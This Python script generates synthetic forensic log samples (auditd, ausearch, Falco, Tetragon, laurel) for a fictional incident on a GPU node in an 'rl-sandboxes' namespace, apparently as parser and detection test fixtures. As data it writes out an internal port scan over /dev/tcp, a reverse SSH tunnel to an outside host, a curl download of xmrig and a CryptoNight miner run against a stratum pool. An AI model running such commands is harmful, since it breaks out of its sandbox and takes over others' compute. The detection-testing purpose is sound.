"""Builds the small host-evidence samples in this folder (run it to regenerate them).

The records follow the kernel's audit format (kernel/auditsc.c: audit_log_execve_info,
audit_log_untrustedstring), ausearch -i's interpreted rendering, Falco's JSON output and
Tetragon's JSON export. The story is the sample incident's gpu-node-03, at a small scale.
"""

from __future__ import annotations

import json
import socket
import struct
from pathlib import Path

HERE = Path(__file__).resolve().parent
T0 = 1771294380  # 2026-02-17T02:13:00Z


def needs_hex(value: str) -> bool:
    return any(c in value for c in ' "') or any(ord(c) < 0x21 or ord(c) > 0x7E for c in value)


def enc(value: str) -> str:
    """How the kernel writes an untrusted string: quoted, or hex when it must be."""
    if needs_hex(value):
        return value.encode().hex().upper()
    return f'"{value}"'


def sockaddr_in(ip: str, port: int) -> str:
    return (struct.pack("<H", 2) + struct.pack(">H", port) + socket.inet_aton(ip) + b"\0" * 8).hex().upper()


def sockaddr_in6(ip: str, port: int) -> str:
    return (struct.pack("<H", 10) + struct.pack(">H", port) + b"\0" * 4 + socket.inet_pton(socket.AF_INET6, ip)
            + b"\0" * 4).hex().upper()


class Audit:
    def __init__(self, node: str | None = "gpu-node-03") -> None:
        self.node = node
        self.serial = 9100
        self.lines: list[str] = []

    def head(self, kind: str, stamp: str) -> str:
        prefix = f"node={self.node} " if self.node else ""
        return f"{prefix}type={kind} msg=audit({stamp}):"

    def syscall(self, stamp: str, nr: int, pid: int, ppid: int, comm: str, exe: str, key: str,
                success: str = "yes", exit_: int = 0, items: int = 0) -> str:
        return (f"{self.head('SYSCALL', stamp)} arch=c000003e syscall={nr} success={success} exit={exit_} "
                f"a0=3 a1=7ffd5a3c1e50 a2=10 a3=0 items={items} ppid={ppid} pid={pid} auid=4294967295 uid=1000 "
                f"gid=1000 euid=1000 suid=1000 fsuid=1000 egid=1000 sgid=1000 fsgid=1000 tty=(none) "
                f"ses=4294967295 comm={enc(comm)} exe={enc(exe)} subj=unconfined key={enc(key)}")

    def stamp(self, seconds: float) -> str:
        self.serial += 1
        whole = int(seconds)
        return f"{T0 + whole}.{int(round((seconds - whole) * 1000)):03d}:{self.serial}"

    def execve(self, seconds: float, pid: int, ppid: int, argv: list[str], exe: str, cwd: str = "/workspace",
               split: dict[int, int] | None = None) -> list[str]:
        st = self.stamp(seconds)
        comm = Path(exe).name[:15]
        out = [self.syscall(st, 59, pid, ppid, comm, exe, "exec", items=2)]
        fields = [f"argc={len(argv)}"]
        records = []
        for i, arg in enumerate(argv):
            if split and i in split:  # a long argument in chunks, across EXECVE records
                size = split[i]
                data = arg.encode().hex().upper()
                chunks = [data[j:j + size] for j in range(0, len(data), size)]
                fields.append(f"a{i}_len={len(arg.encode())}")
                fields.append(f"a{i}[0]={chunks[0]}")
                records.append(" ".join(fields))
                for k, chunk in enumerate(chunks[1:], start=1):
                    records.append(f" a{i}[{k}]={chunk}")
                fields = []
            else:
                fields.append(f"a{i}={enc(arg)}")
        if fields:
            records.append(" ".join(fields))
        out += [f"{self.head('EXECVE', st)} {r}" for r in records]
        out.append(f"{self.head('CWD', st)} cwd={enc(cwd)}")
        out.append(f"{self.head('PATH', st)} item=0 name={enc(exe)} inode=393231 dev=08:01 mode=0100755 "
                   f"ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0")
        out.append(f"{self.head('PATH', st)} item=1 name=\"/lib64/ld-linux-x86-64.so.2\" inode=393220 dev=08:01 "
                   f"mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0")
        title = "\0".join(argv).encode()[:128]
        out.append(f"{self.head('PROCTITLE', st)} proctitle={title.hex().upper()}")
        out.append(f"{self.head('EOE', st)} ")
        return out

    def connect(self, seconds: float, pid: int, ppid: int, comm: str, exe: str, saddr: str,
                success: str = "yes", exit_: int = 0, argv: list[str] | None = None) -> list[str]:
        st = self.stamp(seconds)
        out = [self.syscall(st, 42, pid, ppid, comm, exe, "net", success=success, exit_=exit_),
               f"{self.head('SOCKADDR', st)} saddr={saddr}"]
        if argv:
            out.append(f"{self.head('PROCTITLE', st)} proctitle={chr(0).join(argv).encode()[:128].hex().upper()}")
        out.append(f"{self.head('EOE', st)} ")
        return out


WALLET = "4" + "8" * 10 + "AbCdEfGhJkLmNpQrStUvWxYz" * 3 + "Q1w2E3r4T5y6U7i8O9p"
CID = "9f1c2e7a4b5d6e8f0a1b2c3d4e5f60718293a4b5c6d7e8f9a0b1c2d3e4f5a6b7"


def audit_sample() -> None:
    a = Audit()
    ev: list[list[str]] = []
    ev.append(a.execve(0.0, 48000, 1, ["/usr/local/bin/sandbox-init", "--sandbox-id", "sbx-0317",
                                       "--container-id", CID], "/usr/local/bin/sandbox-init", cwd="/"))
    recon = "nvidia-smi && ip addr"
    ev.append(a.execve(10.2, 48100, 48000, ["bash", "-c", recon], "/usr/bin/bash"))
    ev.append(a.execve(10.25, 48101, 48100, ["nvidia-smi"], "/usr/bin/nvidia-smi"))
    ev.append(a.execve(10.61, 48102, 48100, ["ip", "addr"], "/usr/sbin/ip"))
    probe = "for i in $(seq 1 40); do for p in 22 80 443 6379 8080; do (echo > /dev/tcp/10.20.1.$i/$p) 2>/dev/null && echo $i:$p open; done; done"
    ev.append(a.execve(30.0, 48110, 48000, ["bash", "-c", probe], "/usr/bin/bash"))
    ev.append(a.connect(30.01, 48110, 48000, "bash", "/usr/bin/bash", sockaddr_in("10.20.1.12", 22),
                        success="no", exit_=-111))
    ev.append(a.connect(30.02, 48110, 48000, "bash", "/usr/bin/bash", sockaddr_in("10.20.1.13", 6379)))
    tunnel = ["ssh", "-fN", "-R", "2222:localhost:22", "-o", "StrictHostKeyChecking=no", "tunnel@203.0.113.50"]
    ev.append(a.execve(45.0, 48140, 48000, ["bash", "-c", " ".join(tunnel)], "/usr/bin/bash"))
    ev.append(a.execve(45.01, 48150, 48140, tunnel, "/usr/bin/ssh"))
    ev.append(a.connect(45.05, 48150, 48140, "ssh", "/usr/bin/ssh", sockaddr_in("203.0.113.50", 22), argv=tunnel))
    fetch = ["curl", "-sL", "-o", "/tmp/.x/xmrig.tar.gz", "http://dl.example.net/xmrig-6.21.0-linux-static-x64.tar.gz"]
    ev.append(a.execve(60.0, 48180, 48000, fetch, "/usr/bin/curl"))
    ev.append(a.connect(60.03, 48180, 48000, "curl", "/usr/bin/curl", sockaddr_in("203.0.113.80", 80),
                        success="no", exit_=-115, argv=fetch))
    miner = ["/tmp/.x/xmrig", "-o", "stratum+tcp://xmr.pool.example.com:3333", "-u", WALLET, "-p", "sbx",
             "--cuda", "--cuda-devices=6,7", "--donate-level=0",
             "--cuda-loader=/tmp/.x/libxmrig-cuda.so " + "x" * 200]
    ev.append(a.execve(75.0, 48211, 48000, miner, "/tmp/.x/xmrig", split={10: 120}))
    ev.append(a.connect(75.4, 48211, 48000, "xmrig", "/tmp/.x/xmrig", sockaddr_in("198.51.100.77", 3333), argv=miner))
    ev.append(a.connect(76.0, 48211, 48000, "xmrig", "/tmp/.x/xmrig", sockaddr_in6("2001:db8::77", 3333),
                        success="no", exit_=-101, argv=miner))
    # Out of order: PROCTITLE and EXECVE before SYSCALL; interleaved with the next event.
    late = a.execve(80.0, 48230, 48000, ["sleep", "3600"], "/usr/bin/sleep")
    other = a.execve(80.0, 48231, 48000, ["cat", "/etc/hostname"], "/usr/bin/cat")
    mixed = [late[5], other[0], late[1], other[1], late[0], other[2], late[2], other[3], late[3], late[4],
             other[4], other[5], other[6], late[6]]
    lines = [line for event in ev for line in event] + mixed
    # A truncated hex argument (the line was cut) and an EXECVE whose SYSCALL record is lost.
    cut = a.execve(90.0, 48240, 48000, ["python3", "-c", "import os; os.system('id')"], "/usr/bin/python3")
    cut[1] = cut[1][:-7]
    lines += cut
    orphan = a.execve(95.0, 48250, 48000, ["uname", "-a"], "/usr/bin/uname")
    lines += orphan[1:]
    lines.append("this is not an audit record")
    # A user-space record (not modelled, silently not a process) and an ausearch separator.
    lines.append(f"node=gpu-node-03 type=USER_START msg=audit({T0 + 99}.000:9300): pid=1 uid=0 auid=0 ses=1 "
                 "msg='op=PAM:session_open acct=\"root\" exe=\"/usr/sbin/sshd\" hostname=? addr=? terminal=ssh res=success'")
    (HERE / "audit_sbx.log").write_text("\n".join(lines) + "\n")


def ausearch_sample() -> None:
    """ausearch -i of the tunnel and the miner, local time Asia/Shanghai (UTC+8)."""
    def t(sec: float) -> str:
        import datetime as dt
        stamp = dt.datetime.fromtimestamp(T0 + sec, dt.timezone(dt.timedelta(hours=8)))
        return stamp.strftime("%m/%d/%Y %H:%M:%S") + f".{int(round((sec % 1) * 1000)):03d}"
    lines = [
        "----",
        f"type=PROCTITLE msg=audit({t(45.01)}:9120) : proctitle=ssh -fN -R 2222:localhost:22 tunnel@203.0.113.50",
        f"type=PATH msg=audit({t(45.01)}:9120) : item=0 name=/usr/bin/ssh inode=393300 dev=08:01 mode=file,755 ouid=root ogid=root rdev=00:00 nametype=NORMAL",
        f"type=CWD msg=audit({t(45.01)}:9120) : cwd=/workspace/my project",
        f"type=EXECVE msg=audit({t(45.01)}:9120) : argc=5 a0=ssh a1=-fN a2=-R a3=2222:localhost:22 a4=tunnel@203.0.113.50",
        f"type=SYSCALL msg=audit({t(45.01)}:9120) : arch=x86_64 syscall=execve success=yes exit=0 a0=0x55d0c2a5e2a0 a1=0x55d0c2a5e310 a2=0x55d0c2a5e330 a3=0x8 items=2 ppid=48140 pid=48150 auid=unset uid=sandbox gid=sandbox euid=sandbox suid=sandbox fsuid=sandbox egid=sandbox sgid=sandbox fsgid=sandbox tty=(none) ses=unset comm=ssh exe=/usr/bin/ssh subj=unconfined key=exec",
        "----",
        f"type=PROCTITLE msg=audit({t(45.05)}:9121) : proctitle=ssh -fN -R 2222:localhost:22 tunnel@203.0.113.50",
        f"type=SOCKADDR msg=audit({t(45.05)}:9121) : saddr={{ saddr_fam=inet laddr=203.0.113.50 lport=22 }}",
        f"type=SYSCALL msg=audit({t(45.05)}:9121) : arch=x86_64 syscall=connect success=yes exit=0 a0=0x3 a1=0x7ffd5a3c1e50 a2=0x10 a3=0x0 items=0 ppid=48140 pid=48150 auid=unset uid=sandbox gid=sandbox euid=sandbox suid=sandbox fsuid=sandbox egid=sandbox sgid=sandbox fsgid=sandbox tty=(none) ses=unset comm=ssh exe=/usr/bin/ssh subj=unconfined key=net",
        "----",
        f"type=PROCTITLE msg=audit({t(60.03)}:9131) : proctitle=curl -sL -o /tmp/.x/xmrig.tar.gz http://dl.example.net/xmrig-6.21.0-linux-static-x64.tar.gz",
        f"type=SOCKADDR msg=audit({t(60.03)}:9131) : saddr={{ saddr_fam=inet6 laddr=2001:db8::80 lport=80 lflowinfo=0 lscope=0 }}",
        f"type=SYSCALL msg=audit({t(60.03)}:9131) : arch=x86_64 syscall=connect success=no exit=EINPROGRESS(Operation now in progress) a0=0x5 a1=0x7ffd5a3c1e50 a2=0x1c a3=0x0 items=0 ppid=48000 pid=48180 auid=unset uid=sandbox gid=sandbox euid=sandbox suid=sandbox fsuid=sandbox egid=sandbox sgid=sandbox fsgid=sandbox tty=(none) ses=unset comm=curl exe=/usr/bin/curl subj=unconfined key=net",
        "----",
        f"type=PROCTITLE msg=audit({t(75.0)}:9140) : proctitle=/tmp/.x/xmrig -o stratum+tcp://xmr.pool.example.com:3333 -u {WALLET[:60]}",
        f"type=EXECVE msg=audit({t(75.0)}:9140) : argc=4 a0=/tmp/.x/xmrig a1=--config a2=/tmp/.x/my config.json a3=--cuda",
        f"type=SYSCALL msg=audit({t(75.0)}:9140) : arch=x86_64 syscall=execve success=yes exit=0 a0=0x1 a1=0x2 a2=0x3 a3=0x4 items=2 ppid=48000 pid=48211 auid=unset uid=root gid=root euid=root suid=root fsuid=root egid=root sgid=root fsgid=root tty=(none) ses=unset comm=xmrig exe=/tmp/.x/xmrig subj=unconfined key=exec",
    ]
    (HERE / "ausearch_i.log").write_text("\n".join(lines) + "\n")


def falco_sample() -> None:
    """Falco alerts from the built-in miner and reverse-shell rules, as json_output writes them."""
    import datetime as dt

    def when(sec: float) -> str:
        stamp = dt.datetime.fromtimestamp(T0 + sec, dt.timezone.utc)
        return stamp.strftime("%Y-%m-%dT%H:%M:%S.%f") + "123Z"

    common = {"container.id": CID[:12], "container.name": "sbx-0317", "k8s.ns.name": "rl-sandboxes",
              "k8s.pod.name": "sbx-0317", "user.name": "sandbox"}
    miner = ("/tmp/.x/xmrig -o stratum+tcp://xmr.pool.example.com:3333 -u " + WALLET
             + " -p sbx --cuda --cuda-devices=6,7 --donate-level=0")
    alerts = [
        ("Redirect STDOUT/STDIN to Network Connection in Container", "Notice", 30.02,
         ["maturity_stable", "container", "network", "process", "mitre_execution", "T1059"],
         {"proc.name": "bash", "proc.pid": 48110, "proc.ppid": 48000, "proc.exepath": "/usr/bin/bash",
          "proc.cmdline": "bash -c for i in $(seq 1 40); do ...", "fd.name": "10.244.3.17:41022->10.20.1.13:6379",
          "fd.sip": "10.20.1.13", "fd.sport": 6379, "fd.lport": 41022, "fd.rport": 6379, "evt.type": "dup2"},
         "Redirect stdout/stdin to network connection (gparent=sandbox-init fd.sip=10.20.1.13 "
         "connection=10.244.3.17:41022->10.20.1.13:6379 lport=41022 rport=6379 evt_type=dup2)"),
        ("Detect crypto miners using the Stratum protocol", "Critical", 75.0,
         ["maturity_sandbox", "host", "container", "process", "mitre_impact", "T1496"],
         {"proc.name": "xmrig", "proc.pid": 48211, "proc.ppid": 48000, "proc.exepath": "/tmp/.x/xmrig",
          "proc.cmdline": miner, "container.image.repository": "registry.example.org/rl/sandbox"},
         "Possible miner running (command=" + miner + " pid=48211 container=sbx-0317 (id=" + CID[:12] + "))"),
        ("Detect outbound connections to common miner pool ports", "Critical", 75.4,
         ["maturity_sandbox", "host", "container", "network", "mitre_impact", "T1496"],
         {"proc.name": "xmrig", "proc.pid": 48211, "proc.ppid": 48000, "proc.exepath": "/tmp/.x/xmrig",
          "proc.cmdline": miner, "fd.name": "10.244.3.17:51234->198.51.100.77:3333", "fd.rip": "198.51.100.77",
          "fd.rport": 3333, "fd.lport": 51234},
         "Outbound connection to IP/Port flagged by https://cryptoioc.ch (ip=198.51.100.77 port=3333 "
         "command=" + miner + " pid=48211)"),
    ]
    lines = []
    for rule, priority, sec, tags, fields, output in alerts:
        lines.append(json.dumps({
            "hostname": "gpu-node-03", "output": when(sec)[11:-1] + ": " + priority + " " + output,
            "output_fields": {**common, "evt.time": int((T0 + sec) * 1e9), **fields}, "priority": priority,
            "rule": rule, "source": "syscall", "tags": tags, "time": when(sec)}))
    lines.insert(2, lines[1][:150])  # a line cut mid-object
    (HERE / "falco.jsonl").write_text("\n".join(lines) + "\n")


def tetragon_sample() -> None:
    """Tetragon's JSON export: exec, exit and tcp_connect kprobe events with pod metadata."""
    import base64
    import datetime as dt

    def when(sec: float) -> str:
        return dt.datetime.fromtimestamp(T0 + sec, dt.timezone.utc).strftime("%Y-%m-%dT%H:%M:%S.%f") + "000Z"

    def exec_id(pid: int, sec: float) -> str:
        return base64.b64encode(f"gpu-node-03:{int((T0 + sec) * 1e9)}:{pid}".encode()).decode()

    pod = {"namespace": "rl-sandboxes", "name": "sbx-0317",
           "container": {"id": "containerd://" + CID, "name": "sandbox",
                         "image": {"id": "registry.example.org/rl/sandbox@sha256:" + "ab" * 32,
                                   "name": "registry.example.org/rl/sandbox:2026.02"},
                         "start_time": when(-5), "pid": 1},
           "pod_labels": {"app": "rl-sandbox", "sandbox-id": "sbx-0317"}, "workload": "sbx-0317"}

    def proc(pid, sec, binary, arguments, parent, ns_pid, flags="execve clone"):
        p = {"exec_id": exec_id(pid, sec), "pid": pid, "uid": 1000, "cwd": "/workspace", "binary": binary,
             "arguments": arguments, "flags": flags, "start_time": when(sec), "auid": 4294967295,
             "pod": {**pod, "container": {**pod["container"], "pid": ns_pid}}, "docker": CID[:31],
             "parent_exec_id": parent["exec_id"] if parent else exec_id(1, -100), "tid": pid}
        return p

    init = proc(48000, 0.0, "/usr/local/bin/sandbox-init", "--sandbox-id sbx-0317 --container-id " + CID, None, 1)
    shell = proc(48140, 45.0, "/usr/bin/bash", '-c "ssh -fN -R 2222:localhost:22 tunnel@203.0.113.50"', init, 40)
    ssh = proc(48150, 45.01, "/usr/bin/ssh", "-fN -R 2222:localhost:22 tunnel@203.0.113.50", shell, 41)
    smi = proc(48101, 10.25, "/usr/bin/nvidia-smi", "", init, 12)
    miner = proc(48211, 75.0, "/tmp/.x/xmrig", "-o stratum+tcp://xmr.pool.example.com:3333 -u " + WALLET
                 + ' --cuda --cuda-devices=6,7 --cuda-loader "/tmp/.x/my lib.so"', init, 57)

    def sock(daddr, dport, sport):
        return {"sock_arg": {"family": "AF_INET", "type": "SOCK_STREAM", "protocol": "IPPROTO_TCP",
                             "saddr": "10.244.3.17", "daddr": daddr, "sport": sport, "dport": dport,
                             "cookie": "18446623500000000000", "state": "TCP_SYN_SENT"}}

    events = [
        {"process_exec": {"process": init}, "node_name": "gpu-node-03", "time": when(0.0)},
        {"process_exec": {"process": smi, "parent": init}, "node_name": "gpu-node-03", "time": when(10.25)},
        {"process_exit": {"process": smi, "parent": init, "status": 0, "time": when(10.6)},
         "node_name": "gpu-node-03", "time": when(10.6)},
        {"process_exec": {"process": shell, "parent": init}, "node_name": "gpu-node-03", "time": when(45.0)},
        {"process_exec": {"process": ssh, "parent": shell}, "node_name": "gpu-node-03", "time": when(45.01)},
        {"process_kprobe": {"process": ssh, "parent": shell, "function_name": "tcp_connect",
                            "args": [sock("203.0.113.50", 22, 40112)], "action": "KPROBE_ACTION_POST",
                            "policy_name": "connect"}, "node_name": "gpu-node-03", "time": when(45.05)},
        {"process_exec": {"process": miner, "parent": init}, "node_name": "gpu-node-03", "time": when(75.0)},
        {"process_kprobe": {"process": miner, "parent": init, "function_name": "tcp_connect",
                            "args": [sock("198.51.100.77", 3333, 51234)], "action": "KPROBE_ACTION_POST",
                            "policy_name": "connect"}, "node_name": "gpu-node-03", "time": when(75.4)},
        {"process_kprobe": {"process": miner, "parent": init, "function_name": "security_file_permission",
                            "args": [{"file_arg": {"path": "/etc/passwd"}}], "action": "KPROBE_ACTION_POST"},
         "node_name": "gpu-node-03", "time": when(75.5)},
        # an exit whose exec came before this file starts: the launch is still recorded
        {"process_exit": {"process": proc(47000, -30.0, "/usr/bin/python3", "-m trainer --job rl-run-0217",
                                          None, 3), "status": 0, "signal": "SIGTERM", "time": when(90.0)},
         "node_name": "gpu-node-03", "time": when(90.0)},
    ]
    lines = [json.dumps(e) for e in events]
    lines.insert(3, '{"process_exec": {"process": {"exec_id": "Z3B1LW5vZGUt')
    (HERE / "tetragon.jsonl").write_text("\n".join(lines) + "\n")


def laurel_sample() -> None:
    """laurel's one-JSON-object-per-event rendering (percent-encoding for %, + and non-printables)."""
    def pct(text: str) -> str:
        return "".join(c if 0x20 <= ord(c) < 0x7F and c not in "%+" else "".join(f"%{b:02x}" for b in c.encode())
                       for c in text)

    def syscall(nr, name, pid, ppid, comm, exe, key, success="yes", exit_=0):
        return {"arch": "0xc000003e", "syscall": nr, "success": success, "exit": exit_, "items": 2, "ppid": ppid,
                "pid": pid, "auid": 4294967295, "uid": 1000, "gid": 1000, "euid": 1000, "tty": "(none)",
                "ses": 4294967295, "comm": comm, "exe": exe, "key": key, "ARCH": "x86_64", "SYSCALL": name,
                "UID": "sandbox"}

    miner = ["/tmp/.x/xmrig", "-o", "stratum+tcp://xmr.pool.example.com:3333", "-u", WALLET, "--cuda"]
    events = [
        {"ID": f"{T0 + 45}.010:9120", "SYSCALL": syscall(59, "execve", 48150, 48140, "ssh", "/usr/bin/ssh", "exec"),
         "EXECVE": {"argc": 4, "ARGV": ["ssh", "-fN", "-R", "2222:localhost:22 tunnel@203.0.113.50"]},
         "CWD": {"cwd": "/workspace"}, "PATH": [{"item": 0, "name": "/usr/bin/ssh"}],
         "PROCTITLE": {"ARGV": ["ssh", "-fN", "-R", "2222:localhost:22"]},
         "PPID": {"EVENT_ID": f"{T0 + 45}.000:9119", "comm": "bash", "exe": "/usr/bin/bash", "ppid": 48000}},
        {"ID": f"{T0 + 45}.050:9121", "SYSCALL": syscall(42, "connect", 48150, 48140, "ssh", "/usr/bin/ssh", "net"),
         "SOCKADDR": [{"saddr": "%02%00%00%16%cb%00q2%00%00%00%00%00%00%00%00"}],
         "PROCTITLE": {"ARGV": ["ssh", "-fN", "-R", "2222:localhost:22"]}},
        {"ID": f"{T0 + 75}.000:9140", "SYSCALL": syscall(59, "execve", 48211, 48000, "xmrig", "/tmp/.x/xmrig", "exec"),
         "EXECVE": {"argc": len(miner), "ARGV": [pct(a) for a in miner]}, "CWD": {"cwd": "/tmp/.x"}},
        {"ID": f"{T0 + 75}.400:9141", "SYSCALL": syscall(42, "connect", 48211, 48000, "xmrig", "/tmp/.x/xmrig", "net",
                                                          success="no", exit_=-115),
         "SOCKADDR": [{"saddr": "%0a%00%0d%05%00%00%00%00 %01%0d%b8%00%00%00%00%00%00%00%00%00%00%00w%00%00%00%00",
                       "SADDR": {"saddr_fam": "inet6", "addr": "2001:db8::77", "port": 3333}}]},
    ]
    lines = [json.dumps(e) for e in events]
    lines.append('{"ID": "1771294460.000:9150", "SYSCALL": {"arch"')
    (HERE / "laurel.jsonl").write_text("\n".join(lines) + "\n")


if __name__ == "__main__":
    audit_sample()
    ausearch_sample()
    falco_sample()
    tetragon_sample()
    laurel_sample()
